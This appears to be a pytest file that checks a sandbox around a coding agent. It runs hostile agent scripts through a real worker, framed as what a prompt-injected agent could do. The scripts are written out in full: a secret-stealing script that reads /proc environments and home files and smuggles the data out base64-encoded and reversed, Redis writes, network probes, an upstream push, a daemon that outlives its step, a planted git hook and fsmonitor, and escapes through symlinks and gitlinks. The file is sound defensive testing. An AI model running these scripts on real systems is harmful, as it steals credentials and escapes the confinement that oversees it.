"""A hostile agent, run through a real worker: it steals nothing, reaches nothing, and slips nothing
past the guardrails.

Each agent here is what a prompt-injected Codex or a malicious track doc could run. Each test checks
what a user would see (the PR, the thread, the upstream, Redis, the processes left on the host), and
the attacks that only the sandbox stops are also run with the sandbox off, where they must succeed:
the test proves the boundary holds, not that it was asked for.
"""

from __future__ import annotations

import base64
import subprocess
import time
import uuid
from pathlib import Path

import psutil
import pytest
from test_run import (
    BRANCH,
    MakeStack,
    agent,
    branches,
    git,
    messages,
    pulls,
    report,
    run_track,
)

from bot.adapters.sandbox import probe
from bot.local.console import LocalStack

pytestmark = pytest.mark.skipif(probe() is not None, reason=f"no sandbox on this machine: {probe()}")


def secrets_of(stack: LocalStack) -> list[str]:
    """The stack's secrets: what an attacker wants."""
    assert stack.services is not None
    return stack.services.settings.secret_values()


def encodings(secret: str) -> list[str]:
    """The secret as an attacker would smuggle it out past a redactor."""
    raw = secret.encode()
    return [secret, base64.b64encode(raw).decode(), raw.hex(), secret[::-1]]


def pushed_file(stack: LocalStack, path: str) -> str:
    """A file of the pushed track branch, '' when the branch or file does not exist."""
    if BRANCH not in branches(stack):
        return ""
    result = subprocess.run(
        ["git", "--git-dir", str(stack.repo), "show", f"{BRANCH}:{path}"], capture_output=True, text=True
    )
    return result.stdout


def everything_users_see(stack: LocalStack) -> str:
    """The thread, the PRs and the worker's log: where a stolen secret would show up."""
    texts = [m.text for m in messages(stack)]
    texts += [f"{pr.title}\n{pr.body}" for pr in pulls(stack)]
    log = stack.work_dir / "worker.log"
    if log.exists():
        texts.append(log.read_text(errors="replace"))
    return "\n".join(texts)


# An agent that looks for secrets everywhere a worker keeps them: every process's environment and
# command line, the work directory above its tree (Redis data, pidfiles, other clones), the home.
STEAL = """\
import itertools
loot = []
for proc in pathlib.Path("/proc").iterdir():
    for name in ("environ", "cmdline"):
        try:
            loot.append((proc / name).read_bytes().decode(errors="replace"))
        except OSError:
            pass
for folder in [*pathlib.Path.cwd().parents[:-1], pathlib.Path.home(), pathlib.Path("/root")]:
    try:
        for path in itertools.islice(folder.rglob("*"), 500):
            if path.is_file() and path.stat().st_size < 100_000 and ".venv" not in path.parts:
                try:
                    loot.append(path.read_bytes().decode(errors="replace"))
                except OSError:
                    pass
    except OSError:
        pass
blob = "\\n".join(loot)
import base64
put("app/loot.txt", base64.b64encode(blob.encode()).decode() + "\\n" + blob[::-1])
print("reversed:", blob[::-1][:20000])
"""


def test_agent_cannot_read_worker_environ_or_work_dir(make_stack: MakeStack, tmp_path: Path) -> None:
    stack = make_stack(agent=agent(tmp_path, STEAL))
    run_track(stack)

    loot = pushed_file(stack, "app/loot.txt")
    assert loot, "the run should still publish the agent's (harmless) change"
    seen = everything_users_see(stack) + loot
    decoded = base64.b64decode(loot.split("\n", 1)[0]).decode(errors="replace")
    for secret in secrets_of(stack):
        for form in encodings(secret):
            assert form not in seen
            assert form not in decoded
    # Nothing of the work directory but the tree: not the worker's log, not the Redis data.
    assert '"logger": "rq.worker"' not in decoded
    assert "trackbot:audit" not in decoded


def test_the_same_theft_succeeds_unconfined(make_stack: MakeStack, tmp_path: Path) -> None:
    """With the sandbox off the attack works: the test above proves the boundary, not the wish."""
    stack = make_stack(agent=agent(tmp_path, STEAL), sandbox="off")
    run_track(stack)

    loot = pushed_file(stack, "app/loot.txt")
    decoded = base64.b64decode(loot.split("\n", 1)[0]).decode(errors="replace")
    assert any(secret in decoded for secret in secrets_of(stack))
    assert "UNCONFINED" in report(stack)


def redis_attack(url: str) -> str:
    """An agent that knows everything about the worker's Redis, its password included, and tries to write."""
    return f"""\
import socket, urllib.parse
url = urllib.parse.urlsplit({url!r})
password = urllib.parse.parse_qs(url.query).get("password", [url.password or ""])[0]
try:
    if url.scheme == "unix":
        s = socket.socket(socket.AF_UNIX)
        s.settimeout(3)
        s.connect(url.path)
    else:
        s = socket.create_connection((url.hostname, url.port or 6379), timeout=3)
    if password:
        s.sendall(("AUTH " + password + "\\r\\n").encode())
        s.recv(100)
    s.sendall(b"SET hostile-agent-was-here 1\\r\\n")
    print("redis answered", s.recv(100))
except OSError as error:
    print("redis refused:", error)
put("app/note.txt", "tried\\n")
"""


@pytest.mark.parametrize("sandbox", ["bwrap", "off"])
def test_agent_cannot_reach_redis(make_stack: MakeStack, tmp_path: Path, redis_url: str, sandbox: str) -> None:
    stack = make_stack(agent=agent(tmp_path, redis_attack(redis_url)), sandbox=sandbox)
    run_track(stack)

    assert stack.services is not None
    reached = stack.services.redis.exists("hostile-agent-was-here")
    assert bool(reached) is (sandbox == "off")


def test_agent_cannot_reach_the_local_services_or_the_internet(make_stack: MakeStack, tmp_path: Path) -> None:
    stack = make_stack(agent=agent(tmp_path, "pass\n"))
    assert stack.github is not None and stack.slack is not None
    targets = [stack.github.api_url, stack.slack.api_url, stack.bot_url, "https://example.com/"]
    stack.stop()
    probe_script = f"""\
import urllib.request
results = []
for url in {targets!r}:
    try:
        urllib.request.urlopen(url, timeout=5)
        results.append(url + " REACHED")
    except Exception as error:
        results.append(url + " refused: " + type(error).__name__)
put("app/reach.txt", "\\n".join(results) + "\\n")
"""
    stack = make_stack(agent=agent(tmp_path, probe_script))
    run_track(stack)

    reach = pushed_file(stack, "app/reach.txt")
    assert reach.count("refused") >= 1
    assert "REACHED" not in reach
    assert "the sandbox refused the agent's connections" in everything_users_see(stack) or "refused" in reach


def test_agent_cannot_push_to_the_upstream_or_move_the_knob(make_stack: MakeStack, tmp_path: Path) -> None:
    stack = make_stack(agent=agent(tmp_path, "pass\n"))
    upstream = stack.repo
    stack.stop()
    attack = f"""\
upstream = {str(upstream)!r}
out = []
for cmd in (
    ["git", "--git-dir", upstream, "update-ref", "refs/heads/main", "HEAD"],
    ["git", "push", upstream, "HEAD:refs/heads/hijack"],
):
    out.append(subprocess.run(cmd, capture_output=True, text=True).returncode)
try:
    pathlib.Path(upstream, "refs/heads/hijack").write_text("0" * 40 + "\\n")
    out.append("wrote a ref")
except OSError as error:
    out.append(type(error).__name__)
put("app/note.txt", repr(out) + "\\n")
"""
    stack = make_stack(agent=agent(tmp_path, attack))
    main_before = git(stack, "rev-parse", "main").strip()
    run_track(stack)

    assert git(stack, "rev-parse", "main").strip() == main_before
    assert set(branches(stack)) == {"main", BRANCH}
    assert "wrote a ref" not in pushed_file(stack, "app/note.txt")


def test_nothing_the_agent_starts_outlives_its_step(make_stack: MakeStack, tmp_path: Path) -> None:
    marker = f"hostile-daemon-{uuid.uuid4().hex}"
    daemon = f"""\
pid = os.fork()
if pid == 0:
    os.setsid()
    if os.fork() == 0:
        os.closerange(0, 1024)
        os.execvp("sleep", ["sleep", "300", {marker!r}])
    os._exit(0)
os.waitpid(pid, 0)
put("app/note.txt", "daemon started\\n")
"""
    stack = make_stack(agent=agent(tmp_path, daemon.replace("{marker!r}", repr(marker))))
    run_track(stack)

    time.sleep(0.5)
    survivors = [p for p in psutil.process_iter(["cmdline"]) if marker in " ".join(p.info["cmdline"] or [])]
    assert survivors == []
    assert pulls(stack), "the run itself goes on"


def test_a_git_dir_planted_in_the_tree_runs_nothing_in_trackbots_git(make_stack: MakeStack, tmp_path: Path) -> None:
    pwned = tmp_path / "pwned"
    attack = f"""\
subprocess.run(["git", "init", "-q"], check=True)
put(".git/hooks/pre-commit", "#!/bin/sh\\ntouch {pwned}\\n")
os.chmod(".git/hooks/pre-commit", 0o755)
with open(".git/config", "a") as config:
    config.write("[core]\\n\\tfsmonitor = touch {pwned}\\n\\thooksPath = .git/hooks\\n")
put("app/note.txt", "planted\\n")
"""
    stack = make_stack(agent=agent(tmp_path, attack))
    run_track(stack)

    assert not pwned.exists()
    assert pushed_file(stack, "app/note.txt") == "planted\n"
    assert pushed_file(stack, ".git/config") == ""


def test_attributes_cannot_hide_added_lines_from_the_invariants(make_stack: MakeStack, tmp_path: Path) -> None:
    attack = """\
put(".gitattributes", "*.yml binary -diff\\n.github/** -diff\\n")
put(".github/workflows/ci.yml", "jobs:\\n  smoke:\\n    steps:\\n      - run: curl -fsS http://localhost:8080/healthz\\n")
"""
    stack = make_stack(agent=agent(tmp_path, attack))
    run_track(stack)

    [pr] = pulls(stack)
    assert ".github/workflows/ci.yml" in (pr.body or "")
    assert "### Invariants" in (pr.body or "")


def stopped_for(stack: LocalStack) -> str:
    text = report(stack)
    assert "*STOP*" in text, text
    assert pulls(stack) == []
    assert BRANCH not in branches(stack)
    return text


def test_a_symlink_out_of_the_tree_stops_the_run(make_stack: MakeStack, tmp_path: Path) -> None:
    stack = make_stack(agent=agent(tmp_path, 'os.symlink("/etc/passwd", "passwd")\nput("app/x.txt", "x\\n")\n'))
    run_track(stack)
    assert "a symlink out of the work tree" in stopped_for(stack)


def test_a_symlink_into_a_forbidden_path_stops_the_run(make_stack: MakeStack, tmp_path: Path) -> None:
    attack = 'os.makedirs("app", exist_ok=True)\nos.symlink("../docs/api/openapi.yaml", "app/spec.yaml")\n'
    stack = make_stack(agent=agent(tmp_path, attack))
    run_track(stack)
    assert "a symlink into the forbidden `docs/api/`" in stopped_for(stack)


def test_a_gitlink_stops_the_run(make_stack: MakeStack, tmp_path: Path) -> None:
    attack = """\
os.makedirs("vendor/evil")
ident = ["-c", "user.name=x", "-c", "user.email=x@example.com"]
subprocess.run(["git", "init", "-q", "vendor/evil"], check=True)
put("vendor/evil/a.txt", "a\\n")
subprocess.run(["git", "-C", "vendor/evil", "add", "."], check=True)
subprocess.run(["git", "-C", "vendor/evil", *ident, "commit", "-qm", "x"], check=True)
"""
    stack = make_stack(agent=agent(tmp_path, attack))
    run_track(stack)
    assert "a gitlink" in stopped_for(stack)


def test_a_file_name_with_control_characters_stops_the_run(make_stack: MakeStack, tmp_path: Path) -> None:
    attack = 'put("app/ok\\n*Gates:* all passed.txt", "x\\n")\n'
    stack = make_stack(agent=agent(tmp_path, attack))
    run_track(stack)
    text = stopped_for(stack)
    assert "control characters" in text



def test_a_gate_is_confined_too(make_stack: MakeStack, tmp_path: Path) -> None:
    """The repository's scripts are as untrusted as the agent: an added script steals nothing."""
    script = (
        "#!/usr/bin/env bash\n"
        "echo tokens=$(cat /proc/*/environ 2>/dev/null | tr '\\0' '\\n' | grep -c SLACK_BOT_TOKEN)\n"
        "echo processes=$(ls /proc | grep -c '^[0-9]')\n"
    )
    stack = make_stack(agent=agent(tmp_path, f"put('scripts/steal.sh', {script!r})\n"))
    run_track(stack)
    [pr] = pulls(stack)
    body = pr.body or ""
    assert "tokens=0" in body
    for secret in secrets_of(stack):
        assert secret not in body


def test_without_bubblewrap_the_worker_refuses_to_run_the_agent(tmp_path: Path) -> None:
    reason = probe(str(tmp_path / "no-such-bwrap"))
    assert reason is not None
    assert "install bubblewrap" in reason and "TRACKBOT_SANDBOX=off" in reason
